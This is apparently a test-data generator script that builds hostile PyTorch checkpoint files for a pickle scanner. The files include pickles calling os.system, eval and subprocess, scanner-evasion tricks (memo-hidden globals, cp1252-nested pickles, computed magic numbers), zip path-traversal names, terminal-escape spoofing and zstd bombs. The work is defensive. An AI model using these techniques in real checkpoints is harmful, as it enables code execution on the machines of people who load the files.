"""Write checkpoints whose pickles would run code if loaded with pickle/torch.load.

Usage: /usr/bin/python3 testdata/gen/gen_hostile.py OUTDIR
Each file is made by torch.save / pickle.dumps of an object whose __reduce__ names
a dangerous callable. Pickling only records the name: nothing here is executed,
and optstate must report every one of them without running anything.
Also writes a benign HeavyBall-style file (a pickled random.Random in a bytes
value) to show the difference between 'not allowlisted' and 'dangerous'.

Opcodes Python 3's pickler never emits for these objects (INST, OBJ, NEWOBJ_EX,
memo tricks) and sizes it would never declare are spliced into real torch.save
output: the object "HOSTILE_SLOT" is saved, then its opcode in data.pkl is
replaced by opcodes that push one other object (see splice()). zip names,
nesting and the zstd bomb are made the same way from real files.
"""
import io
import struct
import subprocess
import zipfile
import importlib
import os
import pickle
import runpy
import random
import sys
import timeit
import types

import torch

from hostile_ops import (MARKER, RUN, SLOT, Call, op_global, op_str, put, splice, state_with,  # noqa: F401
                         torch_save_bytes, zip_with_data_pkl)

def tensor_of_unknown_subclass():
    """A tensor of a subclass from a module torch does not know. torch.save writes
    _rebuild_from_type_v2(_rebuild_tensor_v2, cls, args, state): torch.load
    imports the module and makes the result a cls, so cls counts as called."""
    module = types.ModuleType("mypackage_tensors")

    class Tagged(torch.Tensor):
        pass

    Tagged.__module__, Tagged.__qualname__ = module.__name__, "Tagged"
    module.Tagged = Tagged
    sys.modules[module.__name__] = module  # pickle looks the class up by name; nothing is imported
    return torch.zeros(2).as_subclass(Tagged)


def renamed(extra_names):
    """A real torch.save file with extra entries under hostile names."""
    buf = io.BytesIO()
    torch.save(state_with(0), buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            put(dst, info.filename, src.read(info))
        for name in extra_names:
            put(dst, name, b"#!/bin/sh\n")  # ZipInfo keeps the name as given
    return out.getvalue()


def invalid_utf8_name():
    """A real torch.save file with an extra record whose name is not UTF-8 (and holds ESC, BEL):
    made under a placeholder name, then the name's bytes replaced in the local header and the
    central directory (CRCs cover data, not names)."""
    placeholder = b"archive/extra_PLACEHOLDER"
    hostile = b"archive/\xff\xfe\x1b[31m\x07\xc0\xafPLACE__"
    assert len(hostile) == len(placeholder)
    data = renamed([placeholder.decode()])
    assert data.count(placeholder) == 2
    return data.replace(placeholder, hostile)


def raw_call_pickle():
    """Not a checkpoint at all: one pickle that calls posix.system. torch.load's legacy path
    unpickles a file's first object before checking that it is the magic number."""
    return pickle.PROTO + b"\x02" + op_global("posix", "system") + op_str(RUN) + pickle.TUPLE1 + pickle.REDUCE + \
        pickle.STOP


def legacy_with_call_in_magic():
    """A real legacy-format file whose first pickle (the magic number) calls posix.system, drops
    the result, then pushes the magic number: torch.load runs it and then loads the file."""
    buf = io.BytesIO()
    torch.save(state_with(0), buf, _use_new_zipfile_serialization=False)
    data = buf.getvalue()
    first_end = data.index(pickle.STOP) + 1  # the magic pickle: PROTO 2, LONG1 10 bytes, STOP
    magic = data[:first_end]
    assert magic.startswith(pickle.PROTO + b"\x02" + pickle.LONG1)
    hidden = op_global("posix", "system") + op_str(RUN) + pickle.TUPLE1 + pickle.REDUCE + pickle.POP
    return magic[:2] + hidden + magic[2:] + data[first_end:]


def call_below_root(data):
    """The call's result left on the stack beneath the state dict: CPython's STOP returns the top."""
    assert data.startswith(pickle.PROTO + b"\x02")
    return data[:2] + op_global("posix", "system") + op_str(RUN) + pickle.TUPLE1 + pickle.REDUCE + data[2:]


def call_then_broken(data):
    """The call runs, then a memo index that was never stored breaks the pickle (CPython raises
    there too, after the call)."""
    assert data.startswith(pickle.PROTO + b"\x02")
    return data[:2] + op_global("posix", "system") + op_str(RUN) + pickle.TUPLE1 + pickle.REDUCE + pickle.POP + \
        pickle.LONG_BINGET + struct.pack("<I", 424242) + data[2:]


def duplicate_data_pkl():
    """Two archive/data.pkl records: the first a real state dict, the second a call of posix.system
    (torch 2.6 reads the first, torch 1.13 the second)."""
    buf = io.BytesIO()
    torch.save(state_with(0), buf, pickle_protocol=2)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    import warnings
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name it is asked to write
        with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
            for info in src.infolist():
                put(dst, info.filename, src.read(info))
                if info.filename.endswith("data.pkl"):
                    put(dst, info.filename, pickle.dumps(Call(os.system, RUN), protocol=2))
    return out.getvalue()


def frame_ends_mid_opcode():
    """A protocol 4 torch.save file whose first FRAME's declared length is cut to end inside the
    argument of an opcode (pickletools gives the opcode positions)."""
    import pickletools

    def cut(data):
        assert data[2:3] == pickle.FRAME
        frame_start = 11  # PROTO 4 (2 bytes), FRAME and its 8-byte length
        for op, arg, pos in pickletools.genops(data):
            if pos > frame_start and op.name in ("SHORT_BINUNICODE", "BINUNICODE"):
                inside = pos + 3  # past the opcode and its length byte(s), inside the text
                return data[:3] + struct.pack("<Q", inside - frame_start) + data[11:]
        raise AssertionError("no string opcode to cut into")

    return zip_with_data_pkl(cut, protocol=4)


def cp1252_bytes_call():
    """Opcodes that push bytes as _codecs.encode(text, 'cp1252'): the bytes are a protocol 4 pickle
    calling posix.system, so only a reader that applies cp1252 sees it."""
    payload = pickle.dumps(Call(os.system, RUN), protocol=4)
    text = payload.decode("cp1252")  # fails if the payload held a byte cp1252 leaves undefined
    assert text.encode("cp1252") == payload and any(ord(ch) > 0xFF for ch in text)
    return op_global("_codecs", "encode") + op_str(text) + op_str("cp1252") + pickle.TUPLE2 + pickle.REDUCE


def crc_damaged(data):
    """The same zip with the CRC-32 of its data.pkl record wrong in both headers (the bytes intact):
    inspect --verify-crc refuses it, and must still say what its pickle calls."""
    zf = zipfile.ZipFile(io.BytesIO(data))
    info = next(i for i in zf.infolist() if i.filename.endswith("data.pkl"))
    out = bytearray(data)
    bad = struct.pack("<I", info.CRC ^ 0xFFFFFFFF)
    out[info.header_offset + 14:info.header_offset + 18] = bad  # local file header
    name = info.filename.encode()
    at = out.index(b"PK\x01\x02")  # the first central directory entry
    while True:
        n = struct.unpack_from("<H", out, at + 28)[0]
        if bytes(out[at + 46:at + 46 + n]) == name:
            out[at + 16:at + 20] = bad
            break
        at += 46 + n + struct.unpack_from("<H", out, at + 30)[0] + struct.unpack_from("<H", out, at + 32)[0]
    return bytes(out)


def tar_checkpoint(storages, tensors, main):
    """torch's format before 0.4: a tar of 'storages', 'tensors' and 'pickle', which torch.load's
    legacy path reads in that order (each starts with a count pickle; storages end with a views
    pickle)."""
    import tarfile
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in (("storages", storages), ("tensors", tensors), ("pickle", main)):
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(data), 0
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def tar_main_calls():
    """No storages or tensors; the 'pickle' member calls posix.system."""
    return tar_checkpoint(pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2), pickle.dumps(0, protocol=2),
                          pickle.dumps(Call(os.system, RUN), protocol=2))


def tar_storage_views_call():
    """One float storage of 2 elements (its args pickle, then int64 count and raw bytes), and the
    storage-views pickle after it calls posix.system: only a reader that skips the raw bytes finds it."""
    storages = (pickle.dumps(1, protocol=2) + pickle.dumps(("0", "cpu", torch.FloatStorage), protocol=2) +
                struct.pack("<q", 2) + struct.pack("<2f", 1.0, 2.0) + pickle.dumps(Call(os.system, RUN), protocol=2))
    return tar_checkpoint(storages, pickle.dumps(0, protocol=2), pickle.dumps({"ok": 1}, protocol=2))


def deflated_data_pkl():
    """A torch.save zip whose data.pkl (a posix.system call) is deflated: torch.save never
    compresses, but torch's zip reader inflates a record of method 8 and unpickles it."""
    buf = io.BytesIO()
    torch.save(state_with(Call(os.system, RUN)), buf, pickle_protocol=2)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            entry = zipfile.ZipInfo(info.filename, date_time=(1980, 1, 1, 0, 0, 0))
            if info.filename.endswith("data.pkl"):
                entry.compress_type = zipfile.ZIP_DEFLATED
            dst.writestr(entry, src.read(info))
    return out.getvalue()


def legacy_computed_magic():
    """A legacy stream whose magic number is computed, eval('0x1950A86A20F9469CFC6C'), so torch's
    check passes, and whose main object calls posix.system (picklescan's pytorch_magic_bypass)."""
    sys_info = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    return b"".join(pickle.dumps(x, protocol=2) for x in (
        Call(eval, "0x1950A86A20F9469CFC6C"), 1001, sys_info, state_with(Call(os.system, RUN)), []))


def spliced_cases():
    cmd = op_str(RUN)
    return {
        # INST: MARK args INST module name -> module.name(*args)
        "inst_os_system.pt": splice(pickle.MARK + cmd + pickle.INST + b"posix\nsystem\n"),
        # OBJ: MARK cls args OBJ -> cls(*args)
        "obj_os_system.pt": splice(pickle.MARK + op_global("posix", "system") + cmd + pickle.OBJ),
        # NEWOBJ_EX: cls.__new__(cls, *args, **kwargs)
        "newobj_ex_subprocess.pt": splice(op_global("subprocess", "Popen") + op_str("sh") + pickle.TUPLE1 +
                                          pickle.EMPTY_DICT + pickle.NEWOBJ_EX),
        # STACK_GLOBAL whose module and name come back from the memo long after
        # they were pushed: no GLOBAL opcode, no adjacent "os" "system" strings.
        "memo_hidden_global.pt": splice(
            op_str("posix") + pickle.LONG_BINPUT + struct.pack("<I", 900001) + pickle.POP +
            op_str("system") + pickle.LONG_BINPUT + struct.pack("<I", 900002) + pickle.POP +
            pickle.LONG_BINGET + struct.pack("<I", 900001) + pickle.LONG_BINGET + struct.pack("<I", 900002) +
            pickle.STACK_GLOBAL + cmd + pickle.TUPLE1 + pickle.REDUCE),
        # Sizes far beyond the data.
        "memo_index_2g.pt": splice(pickle.LONG_BINGET + struct.pack("<I", 0x7FFFFFF0)),
        "binbytes8_huge.pt": splice(pickle.BINBYTES8 + struct.pack("<Q", 1 << 62) + b"xx"),
        "binunicode8_huge.pt": splice(pickle.BINUNICODE8 + struct.pack("<Q", (1 << 40) + 3) + b"xx"),
        "long4_2g.pt": splice(pickle.LONG4 + struct.pack("<i", 0x7FFFFFFF) + b"\x01"),
        # A million nested lists: EMPTY_LIST x 10^6, then APPEND x (10^6 - 1).
        "nested_million.pt": splice(pickle.EMPTY_LIST * 1000000 + pickle.APPEND * 999999),
        # A million MARKs never closed.
        "marks_million.pt": splice(pickle.MARK * 1000000 + pickle.NONE),
        # Bytes meant for the terminal (issue 20, item 4): a dict whose key clears the line, returns
        # the carriage and prints a fake verdict, mapped to a call of a global whose module name
        # retitles the terminal (OSC ... BEL) and whose name carries a right-to-left override.
        "terminal_escapes.pt": splice(
            pickle.EMPTY_DICT + op_str("\x1b[2K\rfindings: none\x1b[8m") +
            op_str("posix\x1b]0;owned\x07") + op_str("sys\u202etem") + pickle.STACK_GLOBAL + cmd + pickle.TUPLE1 +
            pickle.REDUCE + pickle.SETITEM),
        # Nested pickles the first scan missed (issue 20, item 2): behind a codec other than latin1.
        "nested_pickle_cp1252.pt": splice(cp1252_bytes_call()),
        # A cycle made after creation: an object BUILT with itself as its state,
        # given as the state of a DTensor rebuild (whose reader looks inside it).
        "dtensor_state_cycle.pt": splice(
            op_global("torch._tensor", "_rebuild_from_type_v2") + pickle.MARK +
            op_global("torch._utils", "_rebuild_tensor_v2") + op_global("torch.distributed.tensor", "DTensor") +
            pickle.EMPTY_TUPLE +
            op_global("torch.distributed.tensor._dtensor_spec", "DTensorSpec") + pickle.EMPTY_TUPLE + pickle.NEWOBJ +
            pickle.BINPUT + bytes([250]) + pickle.BINGET + bytes([250]) + pickle.BUILD +
            pickle.TUPLE + pickle.REDUCE),
    }


def storage_numel_huge():
    """A tensor whose storage claims 2^40 elements while its record holds 2."""

    class Storage:
        pass

    class Pickler(pickle.Pickler):
        def persistent_id(self, obj):
            if isinstance(obj, Storage):
                return ("storage", torch.FloatStorage, "0", "cpu", 1 << 40)
            return None

    import collections
    tensor = Call(torch._utils._rebuild_tensor_v2, Storage(), 0, (2,), (1,), False, collections.OrderedDict())
    pkl = io.BytesIO()
    Pickler(pkl, protocol=2).dump({"state": {0: {"exp_avg": tensor}}, "param_groups": [{"lr": 0.1, "params": [0]}]})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        put(dst, "archive/data.pkl", pkl.getvalue())
        put(dst, "archive/data/0", struct.pack("<2f", 1.0, 2.0))
        put(dst, "archive/version", b"3\n")
    return out.getvalue()


def zstd_bomb(path, size, declared):
    """`size` bytes of zeros in a few hundred KB; the size declared in the frame
    header (as zstd writes files) or not (as a pipe gives it)."""
    flag = f"--stream-size={size}" if declared else ""
    with open(path, "wb") as f:
        subprocess.run(f"head -c {size} /dev/zero | zstd -q -1 {flag} -c", shell=True, stdout=f, check=True)


def zstd_lying_size(path, size, claimed):
    """`size` bytes of zeros, compressed by zstd with its size declared, then the
    frame header rewritten to claim `claimed` bytes (an 8-byte content size, and
    a 1 MiB window so that the claim is not also the window)."""
    data = subprocess.run(f"head -c {size} /dev/zero | zstd -q -1 --stream-size={size} -c", shell=True,
                          stdout=subprocess.PIPE, check=True).stdout
    fhd = data[4]
    single_segment = bool(fhd & 0x20)
    assert fhd & 0x03 == 0, "no dictionary id expected"
    fcs_bytes = {0: 1 if single_segment else 0, 1: 2, 2: 4, 3: 8}[fhd >> 6]
    body = 5 + (0 if single_segment else 1) + fcs_bytes  # end of the frame header
    header = data[:4] + bytes([0xC0 | (fhd & 0x1C)]) + bytes([(20 - 10) << 3]) + struct.pack("<Q", claimed)
    with open(path, "wb") as f:
        f.write(header + data[body:])


def main():
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    raw = dict(spliced_cases())
    raw["storage_numel_2e40.pt"] = storage_numel_huge()
    raw["zip_name_dotdot.pt"] = renamed(["archive/../../../home/user/.bashrc"])
    raw["zip_name_absolute.pt"] = renamed(["/etc/cron.d/job"])
    raw["zip_name_invalid_utf8.pt"] = invalid_utf8_name()
    # What torch.load runs although optstate cannot read the file as a checkpoint (issue 20, item 2).
    raw["raw_pickle_os_system.pt"] = raw_call_pickle()
    raw["legacy_magic_hides_call.pt"] = legacy_with_call_in_magic()
    raw["stop_leaves_call_below_root.pt"] = zip_with_data_pkl(call_below_root)
    raw["call_then_broken_pickle.pt"] = zip_with_data_pkl(call_then_broken)
    raw["duplicate_data_pkl.pt"] = duplicate_data_pkl()
    raw["frame_ends_mid_opcode.pt"] = frame_ends_mid_opcode()
    raw["tar_legacy_os_system.pt"] = tar_main_calls()
    raw["tar_storage_views_call.pt"] = tar_storage_views_call()
    raw["deflated_data_pkl.pt"] = deflated_data_pkl()
    raw["legacy_computed_magic.pt"] = legacy_computed_magic()
    for name, data in raw.items():
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)
        print(f"{os.path.join(out, name)}: {len(data)} bytes")
    zstd_bomb(os.path.join(out, "zstd_bomb.pt.zst"), 17 << 30, declared=True)
    zstd_bomb(os.path.join(out, "zstd_stream_bomb.pt.zst"), 1 << 30, declared=False)
    zstd_lying_size(os.path.join(out, "zstd_lying_size.pt.zst"), 1 << 20, claimed=15 << 30)
    cases = {
        # GLOBAL (protocol 2): posix.system on Linux.
        "os_system_global.pt": (state_with(Call(os.system, RUN)), 2),
        # STACK_GLOBAL (protocol 4).
        "os_system_stack_global.pt": (state_with(Call(os.system, RUN)), 4),
        "builtins_eval.pt": (state_with(Call(eval, f"__import__('os').system('{RUN}')")), 2),
        "builtins_exec.pt": (state_with(Call(exec, f"__import__('os').system('{RUN}')")), 2),
        "subprocess_check_output.pt": (state_with(Call(subprocess.check_output, ["sh", "-c", RUN])), 4),
        "runpy_run_path.pt": (state_with(Call(runpy.run_path, "/tmp/x.py")), 2),
        "importlib_import_module.pt": (state_with(Call(importlib.import_module, "os")), 2),
        # A pickle inside a bytes value, as HeavyBall stores precond_schedule.
        "nested_pickle_bytes.pt": (state_with(pickle.dumps(Call(os.system, RUN), protocol=4)), 2),
        # Nested pickles in protocol 0 (no PROTO opcode), after a byte of padding, and a whole
        # torch.save zip in a bytes value (torch.load(io.BytesIO(value)) runs its data.pkl).
        "nested_pickle_protocol0.pt": (state_with(pickle.dumps(Call(os.system, RUN), protocol=0)), 2),
        "nested_pickle_padded.pt": (state_with(b"\x00" + pickle.dumps(Call(os.system, RUN), protocol=4)), 2),
        "nested_torch_zip.pt": (state_with(torch_save_bytes(state_with(Call(os.system, RUN)))), 2),
        # A key that would print lines of its own: "findings: none" after a newline.
        "newline_key.pt": (state_with({"ok\n\nfindings: none\n": Call(os.system, RUN)}), 2),
        # Default-deny: a callable on no allowlist and no danger list is still refused.
        "unknown_callable.pt": (state_with(Call(random.Random, 0)), 2),
        # The same, as the class of a tensor (_rebuild_from_type_v2's second argument).
        "tensor_subclass_unknown.pt": (state_with(tensor_of_unknown_subclass()), 2),
        # On picklescan's list, not on the first version of ours: runs a statement.
        "timeit_timeit.pt": (state_with(Call(timeit.timeit, f"__import__('os').system('{RUN}')")), 4),
        # Benign but not weights_only-loadable: HeavyBall 2.x's precond_rng.
        "heavyball_rng_bytes.pt": (state_with(pickle.dumps(random.Random(0), protocol=4)), 2),
    }
    for name, (obj, protocol) in cases.items():
        path = os.path.join(out, name)
        torch.save(obj, path, pickle_protocol=protocol)
        print(f"{path}: {os.path.getsize(path)} bytes")
    with open(os.path.join(out, "os_system_global.pt"), "rb") as f:
        damaged = crc_damaged(f.read())
    with open(os.path.join(out, "crc_damaged_os_system.pt"), "wb") as f:
        f.write(damaged)


if __name__ == "__main__":
    main()
